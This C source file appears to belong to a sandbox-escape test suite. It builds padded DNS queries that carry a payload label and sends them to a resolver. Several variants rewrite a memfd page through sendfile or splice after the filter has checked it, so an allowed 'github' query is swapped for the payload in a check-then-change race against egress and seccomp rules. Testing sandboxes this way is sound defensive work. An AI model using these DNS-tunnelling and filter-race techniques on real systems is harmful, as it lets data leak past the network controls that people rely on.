// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Questions to the resolver, which asks others for whatever it is asked: for a name that no rule
 * has, the token's, and such as are for another name while the fence looks at them.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/uio.h>
#include <unistd.h>

#include "escape.h"

#define PAGES 32
#define PAGE_BYTES 4096
#define QUESTION_BYTES 160
#define OPT_BYTES 11
#define PADDING_BYTES 4

/* With the length that it has before it over TCP. */
struct question {
	uint8_t length[2];
	uint8_t bytes[QUESTION_BYTES];
};

static void put16(uint8_t *bytes, size_t number)
{
	bytes[0] = (uint8_t)(number >> 8);
	bytes[1] = (uint8_t)number;
}

/* For LABEL.test; filled up by the padding of EDNS (RFC 7830), so that all are equally long. */
static struct question make_question(const char *label)
{
	static const uint8_t header[12] = { 0, 7, 1, 0, 0, 1, [11] = 1 };
	static const uint8_t type[] = { 4, 't', 'e', 's', 't', 0, 0, 1, 0, 1 };
	static const uint8_t edns[OPT_BYTES] = { 0, 0, 41, 4, 208 };
	const size_t length = strlen(label), end = sizeof(header) + 1 + length + sizeof(type);
	const size_t padding = QUESTION_BYTES - end - OPT_BYTES - PADDING_BYTES;
	struct question question = { { 0, QUESTION_BYTES }, { 0 } };
	uint8_t *place = question.bytes;

	memcpy(place, header, sizeof(header));
	place[sizeof(header)] = (uint8_t)length;
	memcpy(place + sizeof(header) + 1, label, length);
	memcpy(place + sizeof(header) + 1 + length, type, sizeof(type));
	memcpy(place + end, edns, sizeof(edns));
	put16(place + end + OPT_BYTES - 2, PADDING_BYTES + padding);
	put16(place + end + OPT_BYTES, 12);
	put16(place + end + OPT_BYTES + 2, padding);
	return question;
}

static int open_resolver(struct attempt *attempt, int type)
{
	int fd = open_socket(attempt, attempt->to.any.sa_family, type, 0), on = 1;

	attempt->to.ipv4.sin_port = htons(53);
	if (escape_is_ipv4(attempt))
		inet_pton(AF_INET, "198.51.100.53", &attempt->to.ipv4.sin_addr);
	else
		inet_pton(AF_INET6, "2001:db8:1::53", &attempt->to.ipv6.sin6_addr);
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
	if (fd < 0 || !connect(fd, &attempt->to.any, length_of(&attempt->to)))
		return fd;
	close(fd);
	return -1;
}

/* Over TCP all of it, else without its length. */
static size_t skipped(int type)
{
	return type == SOCK_STREAM ? 0 : sizeof(((struct question *)NULL)->length);
}

static int ask(struct attempt *attempt, int type)
{
	struct question question = make_question(attempt->payload);
	const size_t skip = skipped(type);
	int fd = open_resolver(attempt, type);

	if (fd < 0)
		return fail("connect");
	if (send(fd, (uint8_t *)&question + skip, sizeof(question) - skip, MSG_NOSIGNAL) < 0)
		return fail("send");
	attempt->reply = true;
	return succeed(attempt, fd);
}

static ssize_t send_file(int fd, int file, off_t offset, size_t count)
{
	return sendfile(fd, file, &offset, count);
}

static ssize_t send_pipe(int fd, int file, off_t offset, size_t count)
{
	ssize_t sent = -1;
	int pipes[2];

	if (pipe(pipes))
		return -1;
	if (splice(file, &offset, pipes[1], NULL, count, 0) == (ssize_t)count)
		sent = splice(pipes[0], NULL, fd, NULL, count, 0);
	close(pipes[0]);
	close(pipes[1]);
	return sent;
}

/*
 * Each page is judged as a question for what is allowed, and written to as soon as it is on its
 * way. Several, as who reads it there may be faster once.
 */
static int ask_by_pages(struct attempt *attempt, int type,
			ssize_t (*way)(int fd, int file, off_t offset, size_t count))
{
	const struct question allowed = make_question("github");
	const struct question changed = make_question(attempt->payload);
	const size_t skip = skipped(type);
	int file = memfd_create("questions", MFD_CLOEXEC), fd = open_resolver(attempt, type);

	if (fd < 0)
		return fail("connect");
	for (off_t place = 0; place < PAGES * PAGE_BYTES; place += PAGE_BYTES) {
		pwrite(file, &allowed, sizeof(allowed), place);
		if (way(fd, file, place + (off_t)skip, sizeof(allowed) - skip) < 0)
			return fail("sendfile");
		pwrite(file, &changed, sizeof(changed), place);
	}
	return succeed(attempt, fd);
}

static int ask_udp(struct attempt *attempt)
{
	return ask(attempt, SOCK_DGRAM);
}

static int ask_tcp(struct attempt *attempt)
{
	return ask(attempt, SOCK_STREAM);
}

static int file_udp(struct attempt *attempt)
{
	return ask_by_pages(attempt, SOCK_DGRAM, send_file);
}

static int file_tcp(struct attempt *attempt)
{
	return ask_by_pages(attempt, SOCK_STREAM, send_file);
}

static int pipe_udp(struct attempt *attempt)
{
	return ask_by_pages(attempt, SOCK_DGRAM, send_pipe);
}

static int pipe_tcp(struct attempt *attempt)
{
	return ask_by_pages(attempt, SOCK_STREAM, send_pipe);
}

const struct escape escape_question[] = {
	{ "ask-udp", "a question for a name that no rule has", ask_udp, ESCAPE_BOTH },
	{ "ask-tcp", "the same over TCP", ask_tcp, ESCAPE_BOTH },
	{ "ask-file", "a question that is changed after it was judged (`sendfile`)", file_udp,
	  ESCAPE_BOTH, "egress, seccomp" },
	{ "ask-file-tcp", "the same over TCP", file_tcp, ESCAPE_BOTH, "seccomp" },
	{ "ask-pipe", "such a one by `splice`", pipe_udp, ESCAPE_BOTH, "egress, seccomp" },
	{ "ask-pipe-tcp", "the same over TCP", pipe_tcp, ESCAPE_BOTH, "seccomp" },
	{ 0 },
};
